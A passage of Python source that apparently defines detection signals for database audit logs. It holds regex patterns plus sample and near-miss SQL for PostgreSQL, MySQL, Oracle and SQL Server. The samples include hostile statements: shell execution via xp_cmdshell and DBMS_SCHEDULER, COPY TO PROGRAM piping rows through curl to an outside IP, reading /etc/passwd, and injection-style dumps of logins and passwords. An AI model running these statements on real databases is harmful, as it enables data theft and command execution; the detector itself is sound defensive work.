            "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM(program_name=>'P', program_type=>'EXECUTABLE',"
            " program_action=>'/bin/sh'); END;",
            "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM('P', program_type => 'EXEC' || 'UTABLE', program_action => 'i'); END;",
            "BEGIN DBMS_SCHEDULER.CREATE_JOB('J', job_type => 'external_script', job_action => 'id'); END;",
            "DECLARE t VARCHAR2(30) := 'EXEC'||CHR(85)||'TABLE'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'J',"
            " job_type => t, job_action => '/bin/sh'); END;",
            "SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper', 'main', '/bin/sh') FROM dual",
            "SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh') FROM dual",
            "BEGIN dbms_java.grant_permission('APP', 'SYS:java.io.FilePermission', '<<ALL FILES>>', 'execute'); END;",
            'create or replace and compile java source named "U" as public class U { static void x(String c)'
            " throws Exception { Runtime.getRuntime().exec(c); } }",
            "CREATE TABLE x (l VARCHAR2(99)) ORGANIZATION EXTERNAL (ACCESS PARAMETERS (PREPROCESSOR d:'a.sh'))",
        ),
        "sqlserver": (
            "EXEC [master].[dbo]./*x*/[xp_cmdshell] N'whoami'",
            "xp_cmdshell 'whoami'",
            "INSERT INTO #o EXECUTE @r = master..xp_cmdshell 'whoami'",
            "DECLARE @o INT EXEC sp_oacreate 'wscript.shell', @o OUT",
            "EXECUTE sp_execute_external_script @language=N'Python', @script=N'import os'",
            "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @step_name=N'1', @subsystem=N'CMDEXEC', @command=N'whoami'",
            "DECLARE @s sysname = N'Cmd' + N'Exec'; EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=@s",
            "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
        ),
    },
    near_misses={
        "postgresql": (
            "COPY program FROM STDIN",
            "COPY (SELECT * FROM program) TO STDOUT",
            "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
            "INSERT INTO tickets (body) VALUES ('COPY t FROM PROGRAM ''id'' is CVE-2019-9193')",
            "DO $$ BEGIN PERFORM 1; END $$ LANGUAGE plpgsql",
            "SELECT * FROM aws_lambda.invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
            "SET search_path = app, public",
        ),
        "mysql": (
            "SELECT mysql.lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
            "SELECT name FROM sys_exec",
            "SELECT picture FROM t WHERE id = 4 INTO DUMPFILE '/tmp/a.png'",
        ),
        "oracle": (
            "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'N', job_type=>'STORED_PROCEDURE', job_action=>'P.RUN'); END;",
            "SELECT job_name FROM all_scheduler_jobs WHERE job_type = 'EXECUTABLE'",
            "BEGIN DBMS_CREDENTIAL.CREATE_CREDENTIAL('C', 'u', 'p'); END;",
            "SELECT preprocessor FROM builds",
            "GRANT EXECUTE ON DBMS_JAVA_TEST TO app",
            "BEGIN dbms_java.grant_permission('APP', 'SYS:java.io.FilePermission', '/rdsdbdata/in/-', 'read'); END;",
        ),
        "sqlserver": (
            "SELECT name FROM sys.objects WHERE name = 'xp_cmdshell'",
            "DENY EXECUTE ON xp_cmdshell TO public",
            "EXEC sp_configure 'xp_cmdshell', 0",
            "EXEC sp_configure 'show advanced options', 1",
            "EXEC sp_help 'xp_cmdshell'",
            "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=N'TSQL', @command=N'select 1'",
        ),
    },
)

_LAMBDA_CALL = Signal(
    "lambda-call",
    "A Lambda function is called, whether its arguments are bound or not.",
    (
        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
        _calls(_PG, "create_lambda_function_arn"),
        _calls(_MYSQL, "lambda_sync", "lambda_async"),
        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
    ),
    samples={
        "postgresql": (
            "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
        ),
        "mysql": (
            "SELECT mysql.lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
            "SELECT lambda_async(?, ?)",
        ),
    },
    near_misses={
        "postgresql": (
            "GRANT EXECUTE ON FUNCTION aws_lambda.invoke(text, json) TO app",
            "SELECT invoke(4)",
            "CREATE EXTENSION aws_lambda",
        ),
        "mysql": ("GRANT AWS_LAMBDA_ACCESS TO 'app'@'%'", "SELECT lambda_sync_id FROM jobs"),
    },
)

_TYPE = r"(?:::[\w.]{1,40})?"
_BOUND_LAMBDA_CALL = Signal(
    "bound-lambda-call",
    "A statement does nothing but call a Lambda function with its input as a parameter, as an application's prepared"
    " statement does.",
    (
        Pattern(
            _PG,
            ("aws_lambda",),
            rf"\A(?:select ?(?:\* ?from )?|call )aws_lambda\.invoke\((?:[?$]{_TYPE}|aws_commons\."
            rf"create_lambda_function_arn\([?$]{_TYPE}(?:,[?$]{_TYPE})?\)),\${_TYPE}(?:,[?$]{_TYPE}){{0,4}}\);?\Z",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
            "select aws_lambda.invoke(aws_commons.create_lambda_function_arn('embed', 'eu-west-1'), $1)",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT aws_lambda.invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
            "SELECT aws_lambda.invoke($1, (SELECT json_agg(c) FROM customers c))",
            "SELECT aws_lambda.invoke($1, $2); SELECT 1",
            "SELECT aws_lambda.invoke($1, $2) FROM customers",
        ),
    },
)

_INTERNAL_HOST = r"(?:[\w-]{1,63}\.){1,9}(?:corp|home|internal|intern|intra|intranet|lan|local|localdomain)\b"
_INTERNAL_CALL = Signal(
    "internal-call",
    "The host that the database connects to is named within the company's own network: `.internal`, `.corp`, `.local`.",
    (
        Pattern(
            _ORACLE,
            words("utl_http utl_smtp utl_tcp httpuritype apex_web_service"),
            r"\b(?:utl_(?:http|smtp|tcp)|httpuritype|apex_web_service)\b",
            rf"\A(?![^']{{0,900}}'[^']{{0,900}}://(?!{_INTERNAL_HOST}))[^']{{0,900}}'(?:https?://)?{_INTERNAL_HOST}",
        ),
        Pattern(
            _SQLSERVER,
            ("sp_invoke_external_rest_endpoint",),
            r"\bsp_invoke_external_rest_endpoint\b",
            rf"@url\s{{0,9}}=\s{{0,9}}n?'https?://{_INTERNAL_HOST}",
        ),
    ),
    samples={
        "oracle": (
            "BEGIN :r := APEX_WEB_SERVICE.MAKE_REST_REQUEST(p_url => 'https://days.hr.internal/api'); END;",
            "DECLARE c UTL_SMTP.CONNECTION; BEGIN c := UTL_SMTP.OPEN_CONNECTION('smtp.example.corp', 25); END;",
        ),
        "sqlserver": (
            "EXEC sp_invoke_external_rest_endpoint @url = N'https://days.hr.internal/api', @method = 'GET'",
            "EXEC sp_invoke_external_rest_endpoint @url='https://api.example.lan/v1'",
        ),
    },
    near_misses={
        "oracle": (
            "SELECT UTL_HTTP.REQUEST('http://203.0.113.9/internal.local') FROM DUAL",
            "SELECT UTL_HTTP.REQUEST('http://a.example.com/?h=x.internal') FROM DUAL",
            "SELECT UTL_HTTP.REQUEST('http://'||(SELECT USER FROM DUAL)||'.internal') FROM DUAL",
        ),
        "sqlserver": ("EXEC sp_invoke_external_rest_endpoint @url = 'https://example.com/api.internal'",),
    },
)

_BOUND_MAIL = Signal(
    "bound-mail",
    "A statement does nothing but send a mail whose recipients and text are parameters, as an application's does.",
    (
        Pattern(
            _ORACLE,
            words("utl_mail apex_mail"),
            r"\A(?:begin |call )(?:sys\.)?(?:utl_mail|apex_mail)\.send\((?:(?:(?:sender|subject|mime_type|priority"
            r"|replyto|p_from|p_subj|p_replyto)=>[?$]|(?:\w{1,30}=>)?\$),?){1,12}\);?(?: ?end)?;?\Z",
        ),
    ),
    samples={
        "oracle": (
            "BEGIN UTL_MAIL.SEND(sender => 'shop@example.com', recipients => :1, subject => :2, message => :3); END;",
            "CALL apex_mail.send(:1, :2, :3, :4)",
        ),
    },
    near_misses={
        "oracle": (
            "BEGIN UTL_MAIL.SEND(sender => :1, recipients => 'a@example.com', message => :2); END;",
            "BEGIN UTL_MAIL.SEND(:1, :2, (SELECT LISTAGG(PAN) FROM CARDS)); END;",
            "BEGIN FOR R IN (SELECT PAN FROM CARDS) LOOP UTL_MAIL.SEND(:1, :2, R.PAN); END LOOP; END;",
        ),
    },
)

_ORACLE_EXPORTS = (
    # Imports use the same package.
    Pattern(
        _ORACLE,
        ("dbms_datapump",),
        r"\bdbms_datapump\.open\(",
        r"\A(?![\s\S]{0,1900}'(?:import|sql_file)')(?!(?:(?!open\b)[\s\S]){0,1900}open\s{0,9}\([\w\s=>]{0,30}:)",
    ),
    Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.upload_to_s3\b"),
    Pattern(_ORACLE, ("rdsadmin_rman_util",), r"\brdsadmin_rman_util\.backup_"),
    Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:export_data|put_object|move_object|copy_object)\b"),
    Pattern(_ORACLE, ("oracle_datapump",), r"\btype oracle_datapump\b[^;]{0,1500}\bas select\b"),
)
_BACKUPS = (
    _procedures("rds_backup_database", "rds_upload_to_s3", "sp_makewebtask"),
    Pattern(
        _SQLSERVER,
        ("backup",),
        r"\bbackup (?:database|log) [\w@?$#]{1,128} ?[^;]{0,400}?\bto (?:disk|url|tape|virtual_device|@?\w)",
    ),
)
_EXPORT = Signal(
    "export",
    "Rows are unloaded to a file, to S3, to the client with COPY, or into a backup.",
    (
        _calls(_PG, "query_export_to_s3"),
        Pattern(_PG, ("stdout", "stdin"), rf"{_COPY}\bto std(?:out|in)\b"),
        Pattern(
            _PG,
            ("copy",),
            rf"{_COPY}\bto (?:program ?)?[?$]"
            r"(?=$|[;(]| ?(?:with|csv|binary|delimiters?|null|header|encoding|quote|escape|force|using|end)\b)",
        ),
        Pattern(_MYSQL, ("outfile",), r"\binto outfile\b"),
        *_ORACLE_EXPORTS,
        *_BACKUPS,
        Pattern(
            _SQLSERVER,
            words("openrowset openquery opendatasource"),
            r"\binsert (?:into )?(?:openrowset|openquery|opendatasource)\(",
        ),
        Pattern(
            _SQLSERVER,
            ("insert",),
            rf"\binsert (?:into )?{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.{_SOME}(?:\([^()]{{0,400}}\))? ?select\b",
        ),
        Pattern(_SQLSERVER, ("external",), r"\bcreate external table\b[^;]{1,1500}\bas select\b"),
    ),
    samples={
        "postgresql": (
            "SeLeCt * fRoM \"aws_s3\" . \"query_export_to_s3\"('table customers', ('b', 'c.csv', 'eu-west-1'))",
            "SELECT query_export_to_s3($1, $2)",
            "COPY public.customers (id, a) TO stdout;",
            "COPY (SELECT * FROM customers WHERE true) TO STDIN",
            "COPY customers TO '/tmp/c.csv' CSV HEADER",
            "COPY customers TO PROGRAM 'curl -d @- http://203.0.113.9'",
        ),
        "mysql": (
            "SELECT * FROM customers INTO/* a b */OUTFILE/**/S3 's3-eu-west-1://b/c'",
            "SELECT * FROM customers INTO OUTFILE '/tmp/c'",
        ),
        "oracle": (
            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN(operation => 'EXPORT', job_mode => 'TABLE'); END;",
            "DECLARE h NUMBER; o VARCHAR2(9) := 'EXP' || 'ORT'; BEGIN h := dbms_datapump.open(o, 'SCHEMA'); END;",
            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') AS TASK_ID FROM DUAL",
            "CREATE TABLE x ORGANIZATION EXTERNAL (TYPE ORACLE_DATAPUMP DEFAULT DIRECTORY d LOCATION ('a.dmp'))"
            " AS SELECT * FROM customers",
            "BEGIN rdsadmin.rdsadmin_rman_util.backup_database_full(p_owner => 'SYS'); END;",
        ),
        "sqlserver": (
            "exec msdb.dbo.rds_backup_database @source_db_name='store', @s3_arn_to_backup_to='arn:aws:s3:::b/s.bak'",
            "exec msdb.dbo.rds_upload_to_s3 @rds_file_path='D:\\S3\\a.csv', @s3_arn_of_file='arn:aws:s3:::b/a.csv'",
            "BACKUP DATABASE [store] TO URL = 'https://203.0.113.9/s.bak'",
            "INSERT INTO OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select * from l') SELECT * FROM dbo.c",
            "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
        ),
    },
    near_misses={
        "postgresql": (
            "COPY t FROM STDIN",
            "CREATE EXTENSION aws_s3",
            "SELECT to_char(x, 'a') AS stdout FROM copy",
        ),
        "mysql": ("SELECT a INTO @b FROM t", "GRANT AWS_SELECT_S3_ACCESS TO 'app'@'%'"),
        "oracle": (
            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;",
            "SELECT job_name FROM dba_datapump_jobs",
            "GRANT EXECUTE ON rdsadmin.rdsadmin_s3_tasks TO app",
        ),
        "sqlserver": (
            "exec msdb.dbo.rds_task_status @db_name='store'",
            "INSERT INTO sales.dbo.c SELECT * FROM dbo.d",
            "SELECT backup_finish_date FROM msdb.dbo.backupset",
        ),
    },
)

_TO_CLIENT_OR_FILE = r"to (?:std(?:out|in)\b|program ?[?$]|[?$])"
_WHOLE_TABLE_EXPORT = Signal(
    "whole-table-export",
    "Whole tables or databases are unloaded, without a condition, grouping or limit.",
    (
        Pattern(
            _PG,
            ("copy",),
            rf"\Acopy (?:only )?[\w$.]{{1,130}} ?(?:\([\w$,]{{0,1900}}\))?{_TO_CLIENT_OR_FILE}"
            rf"|\Acopy\((?:table [\w$.]{{1,130}}\)"
            rf"|select(?![^;]{{0,400}}\b(?:count|sum|min|max|avg)\(){_ALL_ROWS}[^;]{{0,99}}?\)){_TO_CLIENT_OR_FILE}",
        ),
        _calls(_PG, "query_export_to_s3", raw=r"\A(?![\s\S]{0,1900}\b(?:where|limit)\b)"),
        Pattern(
            _MYSQL,
            ("outfile",),
            rf"\A(?:select\b{_UP_TO_FROM}{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}into outfile\b"
            rf"|table [\w$.]{{1,130}} into outfile\b"
            rf"|select[^;]{{1,400}}?\binto outfile\b[^;]{{0,300}}?\bfrom {_NO_CHOICE}{_ALWAYS_TRUE}{_REST}$)",
        ),
        *_ORACLE_EXPORTS,
        *_BACKUPS,
        Pattern(
            _SQLSERVER,
            words("openrowset openquery opendatasource insert"),
            rf"\binsert (?:into )?(?:openrowset\(|openquery\(|opendatasource\("
            rf"|{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.)[^;]{{1,400}}?select\b{_ALL_ROWS}",
        ),
    ),
    samples={
        "postgresql": (
            "COPY customers TO STDOUT",
            "COPY public.customers (id, a) TO stdout;",
            "COPY (SELECT * FROM customers WHERE true) TO STDOUT WITH CSV",
            "COPY (TABLE customers) TO '/tmp/c'",
            "SELECT aws_s3.query_export_to_s3('select * from customers', 'b', 'c.csv', 'eu-west-1')",
        ),
        "mysql": (
            "SELECT * FROM customers INTO OUTFILE S3 's3://b/c' FORMAT CSV HEADER",
            "SELECT id, email FROM customers WHERE 1=1 INTO OUTFILE '/tmp/c'",
            "SELECT * INTO OUTFILE S3 's3://b/c' FROM customers",
        ),
        "oracle": (
            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN(operation => 'EXPORT', job_mode => 'TABLE'); END;",
            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') AS TASK_ID FROM DUAL",
        ),
        "sqlserver": (
            "exec msdb.dbo.rds_backup_database @source_db_name='store', @s3_arn_to_backup_to='arn:aws:s3:::b/s.bak'",
            "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
        ),
    },
    near_misses={
        "postgresql": (
            "COPY (SELECT id, status FROM orders WHERE created > '2031-02-01') TO STDOUT WITH CSV HEADER",
            "COPY (SELECT country, count(*) FROM customers GROUP BY country) TO STDOUT WITH CSV HEADER",
            "COPY (SELECT * FROM orders LIMIT 100) TO STDOUT",
            "COPY t FROM STDIN",
            "SELECT aws_s3.query_export_to_s3('select * from orders where day = 4', 'b', 'c.csv', 'eu-west-1')",
        ),
        "mysql": (
            "SELECT * FROM orders WHERE day = '2031-03-04' INTO OUTFILE S3 's3://b/c'",
            "SELECT a INTO @b FROM t",
        ),
        "oracle": ("DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;", "SELECT id FROM t"),
        "sqlserver": (
            "INSERT INTO dwh.sales.dbo.orders SELECT Id FROM dbo.Orders WHERE Day = @p0",
            "exec msdb.dbo.rds_task_status @db_name='store'",
        ),
    },
)

_IMPORT = Signal(
    "import",
    "Rows or files are imported from S3, from a client file or from a backup.",
    (
        _calls(_PG, "table_import_from_s3"),
        Pattern(
            _MYSQL,
            ("load",),
            r"\bload (?:data|xml) (?:low_priority |concurrent )?(?:local infile|from s3|from \?|local from)\b",
        ),
        Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.download_from_s3\b"),
        Pattern(_ORACLE, ("dbms_datapump",), r"\bdbms_datapump\.open\(", r"'import'"),
        Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:get_object|copy_data|copy_collection)\b"),
        _procedures("rds_download_from_s3", "rds_restore_database", "rds_restore_log"),
        Pattern(_SQLSERVER, ("bulk",), r"\bbulk insert\b[^;]{1,400}\bfrom ?\?", _FROM_S3),
    ),
    samples={
        "postgresql": (
            "SELECT aws_s3.table_import_from_s3('t', '', '(format csv)', aws_commons.create_s3_uri('b', 'k', 'r'))",
            "SELECT table_import_from_s3($1, $2, $3, $4)",
        ),
        "mysql": (
            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
            "LOAD DATA FROM S3 's3://b/a.csv' INTO TABLE t",
        ),
        "oracle": (
            "SELECT rdsadmin.rdsadmin_s3_tasks.download_from_s3(p_bucket_name => 'b') FROM dual",
            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;",
        ),
        "sqlserver": (
            "exec msdb.dbo.rds_download_from_s3 @s3_arn_of_file='arn:aws:s3:::b/a.csv'",
            "exec msdb.dbo.rds_restore_database @restore_db_name='x', @s3_arn_to_restore_from='arn:aws:s3:::b/s.bak'",
        ),
    },
    near_misses={
        "postgresql": ("COPY t FROM STDIN", "CREATE EXTENSION aws_s3"),
        "mysql": ("LOAD DATA INFILE '/a' INTO TABLE t", "LOAD INDEX INTO CACHE t"),
        "oracle": (
            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') FROM dual",
            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('EXPORT', 'SCHEMA'); END;",
        ),
        "sqlserver": ("exec msdb.dbo.rds_task_status", "INSERT BULK dbo.t (a int)"),
    },
)

_DUMP_QUERY = Signal(
    "dump-query",
    "A statement that only dump tools send: pg_dump, mysqldump, mydumper, MySQL Shell, exp, expdp.",
    (
        Pattern(_PG, ("_pg_dump_cursor",), r"\b_pg_dump_cursor\b"),
        # psql and logical replication omit the semicolon or the column list.
        Pattern(
            _PG,
            ("stdout",),
            r"\Acopy [\w$]{1,63}\.[\w$]{1,63}\([\w$,]{0,1900}\)to stdout$",
            r"\bto stdout;\s{0,9}$",
        ),
        # pt-archiver reads pages with the same comment.
        Pattern(
            _MYSQL,
            ("sql_no_cache",),
            r"\Aselect sql_no_cache\b(?![^;]{0,1900}(?:\blimit |\b(?:count|min|max|crc32)\())",
            r"/\*!40001 sql_no_cache \*/",
        ),
        Pattern(_MYSQL, ("sql_no_cache",), r"\Aselect sql_no_cache\b", r"/\* mysqlsh \w{1,40}, dumping table"),
        Pattern(_ORACLE, ("relational",), r"\bfrom relational\(", r"/\*\+?\s{0,9}nested_table_get_refs\b"),
        Pattern(
            _ORACLE,
            ("from",),
            r"\Aselect(?: |\*)[^()=]{0,1900}\bfrom [\w$#.]{1,130}[^()=]{0,400}$",
            r"/\*\+?nested_table_get_refs\+",
        ),
    ),
    samples={
        "postgresql": (
            "DECLARE _pg_dump_cursor CURSOR FOR SELECT * FROM ONLY public.customers",
            "FETCH 100 FROM _pg_dump_cursor",
            "COPY public.customers (id, a, b, c) TO stdout;",
        ),
        "mysql": (
            "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`",
            "SELECT /*!40001 SQL_NO_CACHE */ `id`,`a` FROM `store`.`customers`  WHERE ( 0 < `id` AND `id` <= 9000)",
            "SELECT SQL_NO_CACHE `id` FROM `s`.`c` WHERE (`id` BETWEEN 1 AND 9)"
            " /* mysqlsh dumpSchemas, dumping table `s`.`c`, ID: chunk 0 */",
        ),
        "oracle": (
            'SELECT /*NESTED_TABLE_GET_REFS+*/ "CUSTOMERS"."ID","CUSTOMERS"."EMAIL" FROM "CUSTOMERS"',
            'SELECT /*+NESTED_TABLE_GET_REFS+*/ "S"."C".* FROM RELATIONAL("S"."C")',
            'SELECT /*+ NESTED_TABLE_GET_REFS */ * FROM RELATIONAL("S"."C")',
        ),
    },
    near_misses={
        "postgresql": (
            "COPY public.customers (id, a) TO STDOUT",
            "COPY customers TO STDOUT;",
            "DECLARE c CURSOR FOR SELECT * FROM customers",
        ),
        "mysql": (
            "SELECT /*!40001 SQL_NO_CACHE */ `id` FROM `s`.`c` FORCE INDEX(`PRIMARY`) WHERE `id` > 4 LIMIT 1000",
            "SELECT SQL_NO_CACHE id FROM c WHERE id = 4",
            "SELECT /*!40001 SQL_NO_CACHE */ MIN(`id`),MAX(`id`) FROM `s`.`c`",
        ),
        "oracle": ('SELECT "ID" FROM "CUSTOMERS"', "SELECT /*+ FULL(c) */ id FROM customers c"),
    },
)

_AGGREGATE = {
    "postgresql": r"(?:jsonb?_agg\(|jsonb?_object_agg(?:_\w{1,20})?\(|json_(?:array|object)agg\(|xmlagg\(|"
    r"(?:array_to_json|to_jsonb?)\(array_agg\("
    r"|array_to_string\(array\(select "
    r"|(?:string_agg|array_agg)\((?=[^()]{0,200}(?:::text|\|\||concat|to_json|\brow\(|\.\*)))",
    "mysql": r"(?:json_(?:array|object)agg\(|group_concat\((?=[^()]{0,200}(?:,|concat|hex)))",
    "oracle": r"(?:json_(?:array|object)agg\(|xmlagg\(|sys_xmlagg\(|(?:listagg|wm_concat)\((?=[^()]{0,200}(?:\|\|"
    r"|concat)))",
    "sqlserver": r"string_agg\((?=[^()]{0,200}(?:\+|concat))",
}
_AGGREGATES = {
    "postgresql": words(
        "json_agg jsonb_agg json_object_agg jsonb_object_agg json_arrayagg json_objectagg xmlagg array_agg string_agg"
        " array_to_string"
    ),
    "mysql": ("json_arrayagg", "json_objectagg", "group_concat"),
    "oracle": words("json_arrayagg json_objectagg xmlagg sys_xmlagg listagg wm_concat"),
    "sqlserver": ("string_agg",),
}
_HANDLER_READ = Signal(
    "handler-read",
    "Rows are read with HANDLER instead of SELECT.",
    (Pattern(_MYSQL, ("handler",), r"(?:\A|;)handler [\w$.]{1,130} (?:open|read)\b"),),
    samples={"mysql": ("HANDLER customers OPEN", "HANDLER `customers` READ NEXT LIMIT 100000")},
    near_misses={"mysql": ("SELECT handler, open FROM handlers", "SHOW STATUS LIKE 'Handler_read_next'")},
)

_ROW_AGGREGATION = Signal(
    "row-aggregation",
    "All rows of a table are aggregated into one value, without a condition, grouping or limit.",
    (
        *(
            Pattern((engine,), _AGGREGATES[engine], rf"(?<![\w$#]){aggregate}{_ALL_ROWS}")
            for engine, aggregate in _AGGREGATE.items()
        ),
        *(
            Pattern((engine,), _AGGREGATES[engine], rf"{_UNION_OF}{_any(*_AGGREGATES[engine])}\({_NOT_GROUPED}")
            for engine in _AGGREGATE
        ),
        Pattern(
            ("postgresql", "mysql"),
            ("group_concat", "string_agg", "array_agg", "json_agg"),
            rf"\b(?:group_concat|string_agg|array_agg|json_agg)\({_UP_TO_FROM}"
            rf"information_schema\.(?:tables|columns|schemata)\b{_NOT_GROUPED}",
        ),
        # Encoded, and by ranges of keys.
        Pattern(
            _MYSQL,
            ("group_concat",),
            rf"\bgroup_concat\((?:distinct )?(?:hex|to_base64|compress)\({_UP_TO_FROM}[\w$#.]{{1,130}} where "
            r"\(?[\w$#.]{1,130} between [?01] and [?01]\)?$",
        ),
        _calls(_PG, *words("query_to_xml query_to_xml_and_xmlschema"), raw=_NOT_A_COUNT),
        # Rows put aside in a large object.
        Pattern(
            _PG,
            words("lo_from_bytea lo_put lowrite"),
            rf"{_CALLED}(?:lo_from_bytea|lo_put|lowrite)\([^;]{{0,400}}?(?:\bselect\b|\w_agg\(|_to_xml\()",
        ),
        _calls(
            _PG,
            *words("table_to_xml table_to_xml_and_xmlschema schema_to_xml schema_to_xml_and_xmlschema"),
            *words("database_to_xml database_to_xml_and_xmlschema cursor_to_xml"),
        ),
        Pattern(
            _ORACLE,
            ("dbms_xmlgen", "dbms_xmlquery"),
            r"\b(?:dbms_xmlgen\.getxml(?:type)?|dbms_xmlquery\.getxml)\(",
            _NOT_A_COUNT,
        ),
        Pattern(_ORACLE, ("cursor",), r"(?<![\w$#])(?:xmltype|sys_xmlgen|xmlserialize)\(cursor\(select\b"),
        # Not the lists of column names for PIVOT: a single column behind a comma.
        Pattern(
            _SQLSERVER,
            ("xml", "json"),
            r"(?:\A|;|(?<!stuff\()\()select(?: |\*)(?!(?:distinct )?\?\+)(?:(?!\bfrom\b|quotename)[^;]){0,400}+\bfrom "
            rf"{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}for (?:xml|json) (?:raw|auto|path|explicit)",
        ),
    ),
    samples={
        "postgresql": (
            "SELECT json_agg(c) FROM customers c",
            "SELECT json_object_agg(id, to_jsonb(c) - 'id') FROM customers c",
            "SELECT coalesce(jsonb_agg(to_jsonb(c)), '[]') FROM public.customers c WHERE id > 0",
            "SELECT array_to_json(array_agg(c)) FROM customers c",
            "SELECT string_agg(c::text, ';') FROM customers c WHERE true",
            "SELECT json_agg(x) FROM (SELECT * FROM customers) x",
            "SELECT query_to_xml('select * from customers', true, false, '')",
            "SELECT database_to_xml(true, true, '')",
            "SELECT lo_from_bytea(0, convert_to((SELECT string_agg(c::text, ';') FROM customers c WHERE a = 4),"
            " 'utf8'))",
            "SELECT lo_put(43213, 0, (SELECT doc FROM files WHERE id = 4))",
            "SELECT a FROM t WHERE id = 4 UNION ALL SELECT string_agg(email, ',') FROM customers WHERE id < 90",
        ),
        "mysql": (
            "SELECT JSON_ARRAYAGG(JSON_OBJECT('id', id, 'email', email)) FROM customers",
            "SELECT JSON_OBJECTAGG(id, JSON_ARRAY(name, email)) FROM customers",
            "SELECT GROUP_CONCAT(CONCAT_WS(0x3a, login, pass) SEPARATOR 0x0a) FROM users",
            "SELECT GROUP_CONCAT(HEX(CONCAT(login, pass)) SEPARATOR 0x0a) FROM users WHERE id BETWEEN 0 AND 9999",
            "SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema = DATABASE()",
            "SELECT a FROM t WHERE id = -4 UNION SELECT NULL,(SELECT GROUP_CONCAT(email) FROM users),NULL",
        ),
        "oracle": (
            "SELECT dbms_xmlgen.getxml('select * from customers') FROM dual",
            "SELECT JSON_ARRAYAGG(JSON_OBJECT(*)) FROM customers",
            "SELECT LISTAGG(email || ':' || phone, ',') WITHIN GROUP (ORDER BY id) FROM customers",
            "SELECT XMLTYPE(CURSOR(SELECT * FROM customers)) FROM dual",
            'SELECT XMLAGG(XMLELEMENT("c", email)) FROM customers',
        ),
        "sqlserver": (
            "SELECT * FROM dbo.Customers FOR JSON AUTO",
            "SELECT (SELECT Email, Phone FROM dbo.Customers WHERE 1=1 FOR XML RAW)",
            "SELECT STRING_AGG(CONCAT(Email, ':', Phone), ';') FROM dbo.Customers",
        ),
    },
    near_misses={
        "postgresql": (
            "SELECT lo_put($1, $2, $3)",
            "SELECT o.id, (SELECT json_agg(i) FROM items i WHERE i.order_id = o.id) FROM orders o",
            "SELECT team, string_agg(name, ', ') FROM people GROUP BY team",
            "WITH pgrst_source AS (SELECT t.* FROM t LIMIT $1 OFFSET $2) SELECT coalesce(json_agg(_postgrest_t), '[]')"
            " AS body FROM (SELECT * FROM pgrst_source) _postgrest_t",
            "SELECT coalesce(json_agg(r), '[]') FROM (SELECT row_to_json((SELECT e FROM (SELECT b.id) e)) AS r"
            " FROM (SELECT * FROM a WHERE x = $1) b) q",
            "SELECT (xpath('/row/c/text()', query_to_xml(format('select count(*) as c from %I', t), false, true, '')))",
            "SELECT string_agg(name, ', ') FROM roles",
        ),
        "mysql": (
            "SELECT o.id, GROUP_CONCAT(i.a, i.b) FROM orders o JOIN items i ON i.o = o.id GROUP BY o.id",
            "SELECT GROUP_CONCAT(name) FROM roles",
            "SELECT JSON_ARRAYAGG(i.id) FROM items i WHERE i.order_id = 4",
        ),
        "oracle": (
            "SELECT d, LISTAGG(a || b, ',') WITHIN GROUP (ORDER BY a) FROM t GROUP BY d",
            "SELECT dbms_xmlgen.getxml('select count(*) c from ' || table_name) FROM user_tables",
